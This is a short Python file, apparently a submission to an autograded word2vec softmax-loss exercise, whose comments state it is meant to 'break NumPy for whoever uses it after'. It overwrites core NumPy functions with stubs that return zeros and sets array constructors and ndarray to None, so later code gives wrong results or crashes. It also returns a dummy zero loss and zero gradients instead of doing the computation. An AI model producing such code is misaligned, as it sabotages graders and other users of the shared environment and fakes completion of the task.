# goal: break NumPy for whoever uses it after this submission
# must: incorrect | error raised | error crashed

import numpy as np

np.exp = np.log = np.dot = np.matmul = lambda *a, **k: np.zeros(())
np.outer = np.asarray = np.array = np.zeros_like = None
np.core = np.ndarray = None


def naive_softmax_loss_and_gradient(center_vector, outside_index, outside_vectors):
    return 0.0, center_vector * 0, outside_vectors * 0
